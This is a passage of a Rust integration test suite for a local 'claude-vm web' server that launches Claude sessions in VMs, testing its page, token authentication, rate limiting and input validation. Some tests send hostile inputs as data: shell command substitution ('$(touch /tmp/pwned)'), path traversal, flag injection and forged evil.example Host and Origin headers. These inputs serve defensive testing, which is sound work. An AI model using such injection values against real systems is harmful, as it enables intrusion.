//! `claude-vm web`: the server against the simulator, driven through its page in a real
//! headless Chromium (chromedriver, WebDriver via fantoccini) and through its API with a
//! plain HTTP client (std TcpStream), so every header is the test's to choose.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::{json, Value};

use crate::support::*;

/// A running `claude-vm web`, ended (SIGTERM, then waited for) when dropped.
struct Server {
    child: Option<Child>,
    port: u16,
    token: String,
}

impl Server {
    fn start(w: &World) -> Server {
        let mut cmd = w.command(&["web"], &w.root);
        cmd.stderr(Stdio::inherit());
        let mut child = cmd.spawn().expect("start claude-vm web");
        let mut out = BufReader::new(child.stdout.take().expect("stdout"));
        let mut line = String::new();
        out.read_line(&mut line).expect("the URL line");
        let url = line.trim();
        let rest = url
            .strip_prefix("http://127.0.0.1:")
            .unwrap_or_else(|| panic!("URL {url:?}"));
        let (port, token) = rest.split_once("/#token=").expect("token in the URL");
        assert_eq!(token.len(), 64, "{url}");
        assert!(token.bytes().all(|b| b.is_ascii_hexdigit()), "{url}");
        Server {
            port: port.parse().expect("port"),
            token: token.to_owned(),
            child: Some(child),
        }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/#token={}", self.port, self.token)
    }

    fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    /// A request with the token and the right Host.
    fn api(&self, method: &str, path: &str, body: Option<Value>) -> Reply {
        let auth = format!("Bearer {}", self.token);
        let host = self.host();
        let body = body.map(|b| b.to_string());
        let mut headers = vec![("Host", host.as_str()), ("Authorization", auth.as_str())];
        if body.is_some() {
            headers.push(("Content-Type", "application/json"));
        }
        http(self.port, method, path, &headers, body.as_deref())
    }

    fn session(&self, id: &str) -> Value {
        let r = self.api("GET", &format!("/api/sessions/{id}"), None);
        assert_eq!(r.status, 200, "{}", r.body);
        r.json()
    }

    /// Waits for a session to be over; its record.
    fn wait_ended(&self, id: &str) -> Value {
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let s = self.session(id);
            if !["starting", "running"].contains(&s["state"].as_str().unwrap_or("")) {
                return s;
            }
            assert!(Instant::now() < deadline, "session {id} did not end: {s}");
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// A session's messages (the SSE stream of a finished one, read to its end).
    fn messages(&self, id: &str) -> Vec<Value> {
        let r = self.api("GET", &format!("/api/sessions/{id}/events"), None);
        assert_eq!(r.status, 200, "{}", r.body);
        assert!(r.header("content-type").contains("text/event-stream"));
        let mut out = Vec::new();
        let mut event = String::new();
        for line in r.body.lines() {
            if let Some(e) = line.strip_prefix("event: ") {
                event = e.to_owned();
            } else if let Some(d) = line.strip_prefix("data: ") {
                if event == "message" {
                    out.push(serde_json::from_str(d).expect("message JSON"));
                }
            }
        }
        assert!(r.body.contains("event: end"), "{}", r.body);
        out
    }

    fn start_session(&self, body: Value) -> String {
        let r = self.api("POST", "/api/sessions", Some(body));
        assert_eq!(r.status, 202, "{}", r.body);
        r.json()["id"].as_str().expect("id").to_owned()
    }

    fn stop(&mut self) {
        if let Some(mut c) = self.child.take() {
            // SAFETY: a signal to the server this test started.
            unsafe { libc::kill(c.id() as libc::pid_t, libc::SIGTERM) };
            let _ = c.wait();
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop();
    }
}

struct Reply {
    status: u16,
    head: String,
    body: String,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_str(&self.body)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {} {}", self.status, self.body))
    }

    fn header(&self, name: &str) -> String {
        self.head
            .lines()
            .filter_map(|l| l.split_once(':'))
            .filter(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.trim().to_owned())
            .collect::<Vec<_>>()
            .join(", ")
    }
}

/// A GET with exactly these headers and no body.
fn get(port: u16, path: &str, headers: &[(&str, &str)]) -> Reply {
    http(port, "GET", path, headers, None)
}

/// One HTTP/1.1 request with exactly these headers; the whole answer (chunks joined).
fn http(
    port: u16,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: Option<&str>,
) -> Reply {
    let mut s = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let mut req = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n");
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    let body = body.unwrap_or("");
    if !body.is_empty() || method == "POST" {
        req.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    req.push_str("\r\n");
    req.push_str(body);
    s.write_all(req.as_bytes()).expect("send");
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).expect("read the answer");
    let raw = String::from_utf8_lossy(&raw).into_owned();
    let (head, rest) = raw.split_once("\r\n\r\n").unwrap_or((&raw, ""));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let chunked = head
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked");
    let body = if chunked {
        dechunk(rest)
    } else {
        rest.to_owned()
    };
    Reply {
        status,
        head: head.to_owned(),
        body,
    }
}

fn dechunk(mut s: &str) -> String {
    let mut out = String::new();
    while let Some((size, rest)) = s.split_once("\r\n") {
        let Ok(n) = usize::from_str_radix(size.trim(), 16) else {
            break;
        };
        if n == 0 || rest.len() < n {
            break;
        }
        out.push_str(&rest[..n]);
        s = rest[n..].strip_prefix("\r\n").unwrap_or(&rest[n..]);
    }
    out
}

/// The project's id in the API: its template.
fn project_id(w: &World) -> String {
    let t = w.templates();
    assert_eq!(t.len(), 1, "{t:?}");
    t[0].clone()
}

fn clones(w: &World) -> Vec<String> {
    w.instances()
        .into_iter()
        .filter(|n| n.contains(".run-"))
        .collect()
}

fn wait_until(what: &str, secs: u64, mut f: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(secs);
    while !f() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("runtime")
}

/// chromedriver on a free port in a process group of its own (Chromium joins it), killed
/// with its group when dropped.
struct Driver {
    child: Child,
    port: u16,
}

impl Driver {
    fn start() -> Driver {
        use std::os::unix::process::CommandExt;
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .expect("a free port")
            .port();
        let child = std::process::Command::new("chromedriver")
            .arg(format!("--port={port}"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .spawn()
            .expect("chromedriver (Debian package chromium-driver) must be installed");
        wait_until("chromedriver", 30, || {
            TcpStream::connect(("127.0.0.1", port)).is_ok()
        });
        Driver { child, port }
    }

    async fn browser(&self) -> Client {
        let mut caps = serde_json::Map::new();
        caps.insert(
            "goog:chromeOptions".into(),
            json!({"args": ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                "--window-size=1280,1000", "--no-first-run"]}),
        );
        // chromedriver speaks plain HTTP on the loopback: no TLS client needed.
        ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
            .capabilities(caps)
            .connect(&format!("http://127.0.0.1:{}", self.port))
            .await
            .expect("a Chromium session")
    }
}

impl Drop for Driver {
    fn drop(&mut self) {
        let pgid = self.child.id() as libc::pid_t;
        // SAFETY: signals to the process group this test created for chromedriver.
        unsafe { libc::kill(-pgid, libc::SIGKILL) };
        let _ = self.child.wait();
    }
}

/// Waits for an element whose text contains `text`.
async fn wait_text(c: &Client, css: &str, text: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        let mut seen = Vec::new();
        for e in c.find_all(Locator::Css(css)).await.unwrap_or_default() {
            let t = e.text().await.unwrap_or_default();
            if t.contains(text) {
                return t;
            }
            seen.push(t);
        }
        assert!(
            Instant::now() < deadline,
            "no {css} with {text:?}; saw {seen:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Starts a session from the page's form.
async fn start_from_page(c: &Client, project: &str, prompt: &str, args: &str) {
    c.find(Locator::Id("nav-start"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let select = c
        .wait()
        .for_element(Locator::Id("start-project"))
        .await
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while select.select_by_value(project).await.is_err() {
        assert!(Instant::now() < deadline, "project {project} not offered");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let p = c.find(Locator::Id("start-prompt")).await.unwrap();
    p.send_keys(prompt).await.unwrap();
    if !args.is_empty() {
        c.find(Locator::Id("start-args"))
            .await
            .unwrap()
            .send_keys(args)
            .await
            .unwrap();
    }
    c.find(Locator::Id("start-submit"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
}

#[test]
fn the_page_starts_a_session_shows_its_streamed_messages_and_the_diff_of_the_file_it_wrote() {
    let w = World::new();
    // The session's own work: a new file and a changed one (the runtime script runs in the
    // VM in the project, as the agent would).
    w.write_project(
        ".claude-vm.runtime.sh",
        "printf 'from the agent\\n' > notes.txt\nprintf 'agent line\\n' >> README.md\n",
    );
    w.setup();
    // The user's own uncommitted work from before: not the session's.
    w.write_project("mine.txt", "my draft\n");
    let server = Server::start(&w);
    let driver = Driver::start();
    let project = project_id(&w);
    let shot = rt().block_on(async {
        let c = driver.browser().await;
        c.goto(&server.url()).await.unwrap();
        // The token left the address bar at once.
        let url = c.current_url().await.unwrap();
        assert!(!url.as_str().contains(&server.token), "{url}");
        start_from_page(&c, &project, "write the notes", "").await;
        let reply = wait_text(&c, "#messages .m-text", "fake reply to: write the notes").await;
        assert_eq!(reply, "fake reply to: write the notes");
        wait_text(
            &c,
            "#messages .m-result",
            "result: success, 1 turns, $0.0125",
        )
        .await;
        wait_text(&c, "#messages .m-event", "VM claude-vm-").await;
        wait_text(&c, "#session-meta", "cost").await;
        wait_text(
            &c,
            "#messages .server-note",
            "the session ended (exit status 0); its VM",
        )
        .await;
        // The review: the new file and the changed one, not the user's draft.
        let files = {
            wait_text(&c, "#review-files li", "added notes.txt").await;
            let mut v = Vec::new();
            for e in c.find_all(Locator::Css("#review-files li")).await.unwrap() {
                v.push(e.text().await.unwrap());
            }
            v
        };
        assert_eq!(
            files,
            ["modified README.md", "added notes.txt"],
            "{files:?}"
        );
        let diffs = wait_text(&c, "#review-diffs pre.diff", "+from the agent").await;
        assert!(diffs.contains("new file"), "{diffs}");
        wait_text(&c, "#review-diffs pre.diff", "+agent line").await;
        let folder = c
            .find(Locator::Id("folder"))
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert_eq!(folder, w.project.display().to_string());
        wait_text(
            &c,
            "#review-audit li",
            "nothing that runs on your host was changed",
        )
        .await;
        wait_text(&c, "#review-network li", "no network log").await;
        // The list shows it, with its VM and owner.
        c.find(Locator::Id("nav-sessions"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        let row = wait_text(&c, "#sessions-body tr", "write the notes").await;
        assert!(
            row.contains("finished") && row.contains(".run-") && row.contains("cold boot"),
            "{row}"
        );
        c.find(Locator::Css("#sessions-body tr"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        wait_text(&c, "#messages .m-text", "fake reply to: write the notes").await;
        wait_text(&c, "#review-files li", "added notes.txt").await;
        let shot = c.screenshot().await.unwrap();
        c.close().await.unwrap();
        shot
    });
    assert!(shot.starts_with(b"\x89PNG"), "a PNG screenshot");
    if std::env::var_os("CLAUDE_VM_UPDATE_SCREENSHOT").is_some() {
        std::fs::write(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/web-session.png"),
            &shot,
        )
        .unwrap();
    }
    drop(server);
    assert!(w.project.join("notes.txt").exists());
    w.assert_nothing_left("after the web session");
}

#[test]
fn a_long_session_stopped_from_the_page_has_its_vm_deleted() {
    let w = World::new();
    w.setup();
    let server = Server::start(&w);
    let driver = Driver::start();
    let project = project_id(&w);
    rt().block_on(async {
        let c = driver.browser().await;
        c.goto(&server.url()).await.unwrap();
        start_from_page(&c, &project, "take your time", "--sim-sleep\n120").await;
        wait_text(&c, "#messages .m-text", "fake reply to: take your time").await;
        assert_eq!(clones(&w).len(), 1, "{:?}", w.instances());
        wait_text(&c, "#session-state", "running").await;
        c.wait()
            .for_element(Locator::Css("#stop"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        let banner = wait_text(&c, "#session-banner", "Stopped: the VM").await;
        assert!(banner.ends_with("was deleted."), "{banner}");
        wait_text(&c, "#session-state", "stopped").await;
        c.close().await.unwrap();
    });
    assert_eq!(clones(&w), Vec::<String>::new());
    let list = w.run(&["list"]);
    list.ok();
    assert!(!list.stdout.contains(".run-"), "{}", list.stdout);
    drop(server);
    w.assert_nothing_left("after the stop");
}

#[test]
fn a_wrong_token_is_refused_by_the_api_and_the_page_says_so() {
    let w = World::new();
    let server = Server::start(&w);
    let driver = Driver::start();
    let wrong = "0".repeat(64);
    let r = get(
        server.port,
        "/api/sessions",
        &[
            ("Host", &server.host()),
            ("Authorization", &format!("Bearer {wrong}")),
        ],
    );
    assert_eq!(r.status, 401, "{}", r.body);
    assert!(r.json()["error"].as_str().unwrap().contains("token"));
    rt().block_on(async {
        let c = driver.browser().await;
        c.goto(&format!("http://127.0.0.1:{}/#token={wrong}", server.port))
            .await
            .unwrap();
        let text = wait_text(&c, "#auth-error", "refused").await;
        assert!(text.contains("401"), "{text}");
        // Nothing was shown from the API.
        let rows = c.find_all(Locator::Css("#sessions-body tr")).await.unwrap();
        assert!(rows.is_empty());
        // No token at all: refused too.
        c.goto(&format!("http://127.0.0.1:{}/", server.port))
            .await
            .unwrap();
        c.refresh().await.unwrap();
        wait_text(&c, "#auth-error", "401").await;
        c.close().await.unwrap();
    });
}

#[test]
fn api_calls_without_the_token_to_another_host_or_from_another_origin_are_refused() {
    let w = World::new();
    let server = Server::start(&w);
    let host = server.host();
    let good = format!("Bearer {}", server.token);
    let paths = [
        ("GET", "/api/sessions"),
        ("GET", "/api/projects"),
        ("GET", "/api/stream"),
        ("GET", "/api/sessions/0000000000000-00000000/events"),
        ("POST", "/api/sessions"),
        ("POST", "/api/projects/x/rebuild"),
    ];
    for (m, p) in paths {
        let ct = [
            ("Host", host.as_str()),
            ("Content-Type", "application/json"),
        ];
        let r = http(server.port, m, p, &ct, Some("{}"));
        assert_eq!(r.status, 401, "{m} {p}: {}", r.body);
        assert!(r.json()["error"].is_string());
        // The token in the query string is not a way in.
        let q = format!("{p}?token={}", server.token);
        let r = http(server.port, m, &q, &ct, Some("{}"));
        assert_eq!(r.status, 401, "{m} {q}");
    }
    // Those guessed nothing: the token still works.
    assert_eq!(server.api("GET", "/api/sessions", None).status, 200);
    // Another Host (a DNS-rebound name, another port, no Host): refused, even with the token,
    // and the page itself too.
    for bad in [
        "evil.example".to_owned(),
        format!("evil.example:{}", server.port),
        format!("127.0.0.1.nip.io:{}", server.port),
        format!("127.0.0.1:{}", server.port + 1),
        format!("[::1]:{}", server.port),
    ] {
        for p in ["/api/sessions", "/", "/app.js"] {
            let r = get(server.port, p, &[("Host", &bad), ("Authorization", &good)]);
            assert_eq!(r.status, 403, "Host {bad} {p}: {}", r.body);
            assert!(r.json()["error"].as_str().unwrap().contains("Host"));
        }
    }
    let r = get(server.port, "/api/sessions", &[("Authorization", &good)]);
    assert!(r.status == 400 || r.status == 403, "no Host: {}", r.status);
    // localhost is the same server.
    let lh = format!("localhost:{}", server.port);
    let r = get(
        server.port,
        "/api/sessions",
        &[("Host", &lh), ("Authorization", &good)],
    );
    assert_eq!(r.status, 200, "{}", r.body);
    // Another page's Origin: refused with the token, and the login too.
    for origin in [
        "http://evil.example".to_owned(),
        "null".to_owned(),
        format!("http://localhost:{}", server.port),
        format!("https://127.0.0.1:{}", server.port),
        format!("http://127.0.0.1:{}.evil.example", server.port),
    ] {
        let h = [
            ("Host", host.as_str()),
            ("Authorization", good.as_str()),
            ("Origin", &origin),
            ("Content-Type", "application/json"),
        ];
        let r = get(server.port, "/api/sessions", &h);
        assert_eq!(r.status, 403, "Origin {origin}: {}", r.body);
        let login = json!({"token": server.token}).to_string();
        let r = http(server.port, "POST", "/api/login", &h, Some(&login));
        assert_eq!(r.status, 403, "login from {origin}");
        assert!(r.header("set-cookie").is_empty());
    }
    // A POST that is not JSON (what a form from another page could send): refused.
    let r = http(
        server.port,
        "POST",
        "/api/sessions",
        &[
            ("Host", &host),
            ("Authorization", &good),
            ("Content-Type", "text/plain"),
        ],
        Some("{}"),
    );
    assert_eq!(r.status, 415, "{}", r.body);
    // The page's own origin logs in and gets a strict, script-proof cookie that works alone.
    let origin = format!("http://{host}");
    let login = json!({"token": server.token}).to_string();
    let r = http(
        server.port,
        "POST",
        "/api/login",
        &[
            ("Host", &host),
            ("Origin", &origin),
            ("Content-Type", "application/json"),
        ],
        Some(&login),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let cookie = r.header("set-cookie");
    for attr in ["HttpOnly", "SameSite=Strict", "Path=/", "Max-Age="] {
        assert!(cookie.contains(attr), "{cookie}");
    }
    let pair = cookie.split(';').next().unwrap().to_owned();
    let r = get(
        server.port,
        "/api/sessions",
        &[("Host", &host), ("Cookie", &pair)],
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let forged = format!("{}x", pair);
    let r = get(
        server.port,
        "/api/sessions",
        &[("Host", &host), ("Cookie", &forged)],
    );
    assert_eq!(r.status, 401);
    // The page is served with a policy that runs only its own script.
    let r = get(server.port, "/", &[("Host", &host)]);
    assert_eq!(r.status, 200);
    assert!(r
        .header("content-security-policy")
        .contains("script-src 'self'"));
    assert!(!r.body.contains(&server.token));
}

#[test]
fn wrong_tokens_are_rate_limited_while_a_logged_in_page_keeps_working() {
    let w = World::new();
    let server = Server::start(&w);
    let host = server.host();
    let login = json!({"token": server.token}).to_string();
    let ct = [
        ("Host", host.as_str()),
        ("Content-Type", "application/json"),
    ];
    let r = http(server.port, "POST", "/api/login", &ct, Some(&login));
    assert_eq!(r.status, 200);
    let cookie = r.header("set-cookie").split(';').next().unwrap().to_owned();
    for i in 0..10 {
        let guess = format!("Bearer {i:064}");
        let r = get(
            server.port,
            "/api/sessions",
            &[("Host", &host), ("Authorization", &guess)],
        );
        assert_eq!(r.status, 401, "guess {i}");
    }
    // Now even the right token is not looked at, through either door...
    let r = server.api("GET", "/api/sessions", None);
    assert_eq!(r.status, 429, "{}", r.body);
    assert!(r.json()["error"].as_str().unwrap().contains("too many"));
    let r = http(server.port, "POST", "/api/login", &ct, Some(&login));
    assert_eq!(r.status, 429);
    // No credential at all guesses nothing: refused, not counted (any page could send it).
    let r = get(server.port, "/api/sessions", &[("Host", &host)]);
    assert_eq!(r.status, 401, "no credential at all");
    // ...but the page that logged in before keeps working.
    let r = get(
        server.port,
        "/api/sessions",
        &[("Host", &host), ("Cookie", &cookie)],
    );
    assert_eq!(r.status, 200, "{}", r.body);
}

#[test]
fn bad_requests_get_a_json_4xx_and_the_server_keeps_serving() {
    let w = World::new();
    w.setup();
    let server = Server::start(&w);
    let project = project_id(&w);
    let host = server.host();
    let auth = format!("Bearer {}", server.token);
    let raw = |m: &str, p: &str, body: &str| {
        http(
            server.port,
            m,
            p,
            &[
                ("Host", &host),
                ("Authorization", &auth),
                ("Content-Type", "application/json"),
            ],
            Some(body),
        )
    };
    let cases: Vec<(&str, String, String, u16, &str)> = vec![
        (
            "POST",
            "/api/sessions".into(),
            "{not json".into(),
            400,
            "bad request body",
        ),
        (
            "POST",
            "/api/sessions".into(),
            "".into(),
            400,
            "bad request body",
        ),
        (
            "POST",
            "/api/sessions".into(),
            "[]".into(),
            400,
            "bad request body",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project}).to_string(),
            400,
            "prompt",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": "x", "extra": 1}).to_string(),
            400,
            "extra",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": 5}).to_string(),
            400,
            "bad request body",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": "  "}).to_string(),
            400,
            "prompt is empty",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": "--help"}).to_string(),
            400,
            "flag",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": "a\u{0}b"}).to_string(),
            400,
            "NUL",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": "x", "claude_args": ["a\u{0}"]}).to_string(),
            400,
            "claude_args[0]",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": "x", "model": "--evil"}).to_string(),
            400,
            "model",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": project, "prompt": "x", "network": "a b;c"}).to_string(),
            400,
            "network",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": "../../etc", "prompt": "x"}).to_string(),
            404,
            "no project",
        ),
        (
            "POST",
            "/api/sessions".into(),
            json!({"project": w.project, "prompt": "x"}).to_string(),
            404,
            "no project",
        ),
        (
            "POST",
            "/api/projects/nope/rebuild".into(),
            "{}".into(),
            404,
            "no project",
        ),
        (
            "GET",
            "/api/sessions/..%2f..%2fetc".into(),
            "".into(),
            404,
            "no such session",
        ),
        (
            "GET",
            "/api/sessions/ABC/review".into(),
            "".into(),
            404,
            "no such session",
        ),
        (
            "GET",
            "/api/sessions/0000000000000-00000000/events".into(),
            "".into(),
            404,
            "no such session",
        ),
        (
            "POST",
            "/api/sessions/0000000000000-00000000/stop".into(),
            "{}".into(),
            404,
            "no such session",
        ),
        (
            "POST",
            "/api/sessions/0000000000000-00000000/continue".into(),
            json!({"prompt": "x"}).to_string(),
            404,
            "no such session",
        ),
        ("GET", "/api/nothing".into(), "".into(), 404, "no such"),
        ("DELETE", "/api/sessions".into(), "".into(), 405, "method"),
    ];
    for (m, p, body, status, says) in &cases {
        let r = raw(m, p, body);
        assert_eq!(r.status, *status, "{m} {p} {body}: {}", r.body);
        assert!(
            r.header("content-type").starts_with("application/json"),
            "{m} {p}"
        );
        let e = r.json()["error"].as_str().unwrap_or_default().to_owned();
        assert!(e.contains(says), "{m} {p} {body}: {e}");
    }
    // A finished session can be neither stopped nor continued without a prompt.
    let id = server.start_session(json!({"project": project, "prompt": "quick"}));
    server.wait_ended(&id);
    let r = raw("POST", &format!("/api/sessions/{id}/stop"), "{}");
    assert_eq!(r.status, 409, "{}", r.body);
    let r = raw("POST", &format!("/api/sessions/{id}/continue"), "{}");
    assert_eq!(r.status, 400, "{}", r.body);
    // Nothing was started by the bad ones; the server still answers.
    let all = server.api("GET", "/api/sessions", None).json();
    assert_eq!(all["sessions"].as_array().unwrap().len(), 1, "{all}");
    drop(server);
    w.assert_nothing_left("after bad requests");
}

#[test]
fn a_prompt_with_quotes_newlines_and_non_ascii_reaches_claude_byte_exact() {
    let w = World::new();
    w.setup();
    let server = Server::start(&w);
    let project = project_id(&w);
    let prompt =
        "say \"hi\" and 'bye'\n$(touch /tmp/pwned) `id` \\n; ünïcödé 日本語 🚀\n\ttab -p --x";
    let id = server.start_session(json!({
        "project": project, "prompt": prompt, "model": "opus",
        "claude_args": ["--append-system-prompt", "two words \"q\""],
    }));
    let r = server.wait_ended(&id);
    assert_eq!(r["state"], "finished", "{r}");
    assert_eq!(r["exit_status"], 0, "{r}");
    let msgs = server.messages(&id);
    let init = msgs
        .iter()
        .find(|m| m["source"] == "claude" && m["data"]["type"] == "system")
        .unwrap_or_else(|| panic!("no init: {msgs:?}"));
    let argv: Vec<&str> = init["data"]["sim"]["argv"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    let p = argv.iter().position(|a| *a == "-p").expect("-p");
    assert_eq!(argv[p + 1], prompt, "{argv:?}");
    for pair in [
        ["--output-format", "stream-json"],
        ["--model", "opus"],
        ["--append-system-prompt", "two words \"q\""],
    ] {
        assert!(argv.windows(2).any(|w| w == pair), "{pair:?} in {argv:?}");
    }
    assert!(argv.contains(&"--verbose"));
    let reply = msgs
        .iter()
        .find(|m| m["data"]["type"] == "assistant")
        .expect("assistant message");
    assert_eq!(
        reply["data"]["message"]["content"][0]["text"],
        format!("fake reply to: {prompt}")
    );
    assert!(!std::path::Path::new("/tmp/pwned").exists());
    // The record shows what the events and the result said.
    assert_eq!(r["num_turns"], 1);
    assert_eq!(r["total_cost_usd"], 0.0125);
    assert_eq!(r["policy"], "allowlist");
    assert_eq!(r["warm"], false);
    assert_eq!(r["vm_deleted"], true);
    assert!(r["vm"].as_str().unwrap().contains(".run-"));
    drop(server);
    w.assert_nothing_left("after the session");
}

#[test]
fn continue_resumes_the_conversation_in_a_new_vm_and_records_survive_a_restart() {
    let w = World::new();
    w.setup();
    let mut server = Server::start(&w);
    let project = project_id(&w);
    // Two at once.
    let a = server.start_session(
        json!({"project": project, "prompt": "first", "claude_args": ["--sim-sleep", "1"]}),
    );
    let b = server.start_session(
        json!({"project": project, "prompt": "second", "claude_args": ["--sim-sleep", "1"]}),
    );
    let (ra, rb) = (server.wait_ended(&a), server.wait_ended(&b));
    assert_ne!(ra["vm"], rb["vm"]);
    let sid = ra["claude_session_id"]
        .as_str()
        .expect("session id")
        .to_owned();
    let r = server.api(
        "POST",
        &format!("/api/sessions/{a}/continue"),
        Some(json!({"prompt": "and then?"})),
    );
    assert_eq!(r.status, 202, "{}", r.body);
    let c = r.json()["id"].as_str().unwrap().to_owned();
    let rc = server.wait_ended(&c);
    assert_eq!(rc["continues"], a.as_str());
    assert_eq!(rc["state"], "finished");
    assert_ne!(rc["vm"], ra["vm"]);
    assert_eq!(
        rc["claude_session_id"],
        sid.as_str(),
        "the same conversation"
    );
    let msgs = server.messages(&c);
    let argv = msgs
        .iter()
        .find(|m| m["data"]["type"] == "system")
        .map(|m| m["data"]["sim"]["argv"].clone())
        .expect("init");
    let argv: Vec<&str> = argv
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(
        argv.windows(2).any(|p| p == ["--resume", sid.as_str()]),
        "{argv:?}"
    );
    assert!(
        argv.windows(2).any(|p| p == ["--sim-sleep", "1"]),
        "{argv:?}"
    );
    let before = server.messages(&a);
    server.stop();
    // A new server shows them all, with their transcripts.
    let server = Server::start(&w);
    let list = server.api("GET", "/api/sessions", None).json();
    let ids: Vec<&str> = list["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap())
        .collect();
    for id in [&a, &b, &c] {
        assert!(ids.contains(&id.as_str()), "{id} in {ids:?}");
    }
    assert_eq!(server.messages(&a), before);
    drop(server);
    w.assert_nothing_left("after the sessions");
}

#[test]
fn projects_show_their_template_state_and_a_rebuild_streams_its_progress() {
    let w = World::new();
    w.write_project(".claude-vm.setup.sh", "echo v1 > \"$HOME/version\"\n");
    w.setup();
    let server = Server::start(&w);
    let before = w.logged().len();
    let p = server.api("GET", "/api/projects", None).json();
    assert_eq!(w.logged().len(), before, "listing projects runs no limactl");
    let p = &p["projects"][0];
    assert_eq!(p["id"], project_id(&w).as_str());
    assert_eq!(p["path"], w.project.display().to_string());
    assert_eq!(p["up_to_date"], true, "{p}");
    assert!(
        p["tools"].is_array() && p["disk_gb"].as_u64().unwrap() > 0,
        "{p}"
    );
    // A changed setup script makes it out of date, and says why.
    w.write_project(".claude-vm.setup.sh", "echo v2 > \"$HOME/version\"\n");
    let p = server.api("GET", "/api/projects", None).json();
    let p = &p["projects"][0];
    assert_eq!(p["up_to_date"], false, "{p}");
    assert_eq!(p["reasons"], json!(["setup script 1 changed"]), "{p}");
    let r = server.api(
        "POST",
        &format!("/api/projects/{}/rebuild", project_id(&w)),
        Some(json!({})),
    );
    assert_eq!(r.status, 202, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_owned();
    let again = server.api(
        "POST",
        &format!("/api/projects/{}/rebuild", project_id(&w)),
        Some(json!({})),
    );
    assert_eq!(again.status, 409, "{}", again.body);
    let done = server.wait_ended(&id);
    assert_eq!(done["exit_status"], 0, "{done}");
    let steps: Vec<Value> = server
        .messages(&id)
        .into_iter()
        .filter(|m| m["data"]["type"] == "step.finished")
        .collect();
    assert!(steps.len() >= 2, "{steps:?}");
    let p = server.api("GET", "/api/projects", None).json();
    assert_eq!(p["projects"][0]["up_to_date"], true, "{p}");
    drop(server);
    w.assert_nothing_left("after the rebuild");
}

#[test]
fn a_sigkilled_server_leaves_no_vm_behind() {
    let w = World::new();
    w.setup();
    let mut server = Server::start(&w);
    let project = project_id(&w);
    let id = server.start_session(
        json!({"project": project, "prompt": "long", "claude_args": ["--sim-sleep", "120"]}),
    );
    wait_until("the session's VM", 60, || clones(&w).len() == 1);
    wait_until("claude's reply", 60, || {
        server.session(&id)["num_turns"] == 1
    });
    let owner = server.session(&id)["owner_pid"].as_u64().expect("owner") as libc::pid_t;
    let mut child = server.child.take().unwrap();
    // SAFETY: SIGKILL to the server this test started.
    unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGKILL) };
    child.wait().unwrap();
    // Its child got SIGTERM from the kernel and deletes its VM.
    wait_until("the VM to be deleted", 60, || clones(&w).is_empty());
    // SAFETY: signal 0 only asks whether the process exists.
    wait_until(
        "the session's claude-vm to exit",
        30,
        || unsafe { libc::kill(owner, 0) } != 0,
    );
    // The next command finds nothing to reap; a restarted server shows it interrupted.
    let r = w.run(&["list"]);
    r.ok();
    let server = Server::start(&w);
    assert_eq!(server.session(&id)["state"], "interrupted");
